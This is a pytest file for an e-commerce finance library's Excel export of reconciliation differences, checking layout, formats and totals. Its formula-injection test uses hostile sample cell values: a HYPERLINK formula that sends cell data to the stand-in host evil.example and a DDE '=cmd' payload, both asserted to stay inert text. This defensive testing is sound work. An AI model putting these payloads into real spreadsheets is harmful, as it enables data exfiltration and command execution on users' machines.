# Copyright 2026 ecom-finance
# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).

import io
from datetime import datetime

import pytest

from ecomfin.xlsx import differences_workbook

openpyxl = pytest.importorskip("openpyxl")


def test_workbook_has_summary_frozen_headers_formats_and_totals():
    rows = [
        {
            "shop": "TM01",
            "reference": "T1",
            "date": datetime(2024, 3, 1, 10, 0),
            "expected": 100,
            "actual": 90,
            "difference": -10,
            "currency": "CNY",
            "state": "open",
            "assignee": "",
        },
        {
            "shop": "TM01",
            "reference": "T2",
            "date": datetime(2024, 3, 2, 11, 0),
            "expected": 50.5,
            "actual": 50,
            "difference": -0.5,
            "currency": "CNY",
            "state": "resolved",
            "assignee": "Wang Fang",
        },
    ]
    data = differences_workbook(
        "TM01 2024-03-01..2024-03-07",
        [("Matched", 12), ("Amount mismatch", 2)],
        {"amount_mismatch": ("Amount mismatch", rows), "timing": ("Timing", [])},
        labels={"reference": "参考号"},
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Summary", "Amount mismatch", "Timing"]
    assert book["Summary"]["A1"].value == "TM01 2024-03-01..2024-03-07"
    assert book["Summary"]["B3"].value == 12
    sheet = book["Amount mismatch"]
    assert sheet.freeze_panes == "A2"
    assert [c.value for c in sheet[1]][:3] == ["Shop", "参考号", "Date"]
    assert sheet["B3"].value == "T2"
    assert sheet["D2"].number_format == "#,##0.00"
    assert sheet["C2"].value == datetime(2024, 3, 1, 10, 0)
    assert (sheet["A4"].value, sheet["D4"].value, sheet["E4"].value, sheet["F4"].value) == (
        "Total",
        150.5,
        140,
        -10.5,
    )
    assert book["Timing"]["A2"].value == "Total"


FORMULA_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
)


def _all_cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_text_starting_like_a_formula_stays_inert_text():
    rows = [
        {
            "shop": text,
            "reference": text,
            "date": text,
            "expected": 10,
            "actual": 7.5,
            "difference": -2.5,
            "currency": text,
            "state": text,
            "assignee": text,
        }
        for text in FORMULA_TEXTS
    ]
    data = differences_workbook(
        "=1+1",
        [("=cmd|' /C calc'!A0", "-3+3"), ("Matched", 12), ("Share", 0.5)],
        {"amount_mismatch": ("Amount mismatch", rows)},
        labels={"reference": "@reference", "total": "=SUM(D2:D7)"},
    )
    book = openpyxl.load_workbook(io.BytesIO(data))
    formulas = [cell.coordinate for cell in _all_cells(book) if cell.data_type == "f"]
    assert formulas == []
    summary = book["Summary"]
    assert summary["A1"].value == "'=1+1"
    assert (summary["A3"].value, summary["B3"].value) == ("'=cmd|' /C calc'!A0", "'-3+3")
    # numbers stay numbers
    assert (summary["B4"].value, summary["B4"].data_type) == (12, "n")
    assert summary["B5"].value == 0.5
    sheet = book["Amount mismatch"]
    assert sheet["B1"].value == "'@reference"
    for row_index, text in enumerate(FORMULA_TEXTS, start=2):
        for col in "ABCGHI":
            cell = sheet[f"{col}{row_index}"]
            # openpyxl reads a carriage return back in its escaped form
            value = cell.value.replace("_x000D_", "\r")
            assert (value, cell.data_type) == ("'" + text, "s"), cell.coordinate
        assert (sheet[f"D{row_index}"].value, sheet[f"F{row_index}"].value) == (10, -2.5)
    total_row = len(FORMULA_TEXTS) + 2
    assert sheet[f"A{total_row}"].value == "'=SUM(D2:D7)"
    assert (sheet[f"D{total_row}"].value, sheet[f"F{total_row}"].value) == (60, -15)


def test_plain_text_is_written_as_it_is():
    rows = [{"shop": "TM01", "reference": "http://shop.example/o/1", "state": "a=b", "assignee": None}]
    data = differences_workbook("Run 1", [("Shops", "TM01, JD02")], {"timing": ("Timing", rows)})
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book["Timing"]
    assert (sheet["A2"].value, sheet["B2"].value, sheet["H2"].value) == (
        "TM01",
        "http://shop.example/o/1",
        "a=b",
    )
    assert sheet["B2"].hyperlink is None
    assert sheet["I2"].value is None
    assert book["Summary"]["B3"].value == "TM01, JD02"


def test_written_row_by_row_to_a_file(tmp_path):
    """To a file, rows from a generator (read once), the totals kept on the way."""
    import openpyxl

    rows = (
        {"shop": "T", "reference": f"O{n}", "expected": n, "actual": n + 1, "difference": 1}
        for n in range(500)
    )
    path = tmp_path / "run.xlsx"
    assert (
        differences_workbook("RUN/1", [("Matched", 3)], {"amount": ("Amount", rows)}, output=str(path))
        is None
    )
    sheet = openpyxl.load_workbook(path, read_only=True)["Amount"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[1][1] == "O0" and values[500][1] == "O499"
    assert values[501][0] == "Total" and values[501][5] == 500
